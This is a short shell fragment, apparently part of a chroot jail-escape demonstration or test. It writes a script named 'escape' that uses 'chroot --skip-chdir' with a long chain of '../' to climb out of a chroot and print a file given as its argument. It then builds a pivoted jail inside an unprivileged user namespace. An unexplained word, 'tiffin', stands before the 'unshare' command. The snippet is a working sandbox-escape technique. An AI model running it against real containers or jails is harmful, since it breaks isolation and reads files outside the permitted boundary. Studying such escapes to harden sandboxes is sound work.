cat >escape <<'END'
mkdir -p x
chroot --skip-chdir x bin/chroot ../../../../../../../../../../../../../../../.. cat "$1"
END
tiffin unshare -Urm sh -c 'bin/mount --rbind jail jail; cd jail
    ../bin/pivot_root . .; umount -l .; cd /; exec sleep 1000' &
echo "$!" >pivoted
until grep -qs sleep "/proc/$!/comm"; do sleep 0.1; done
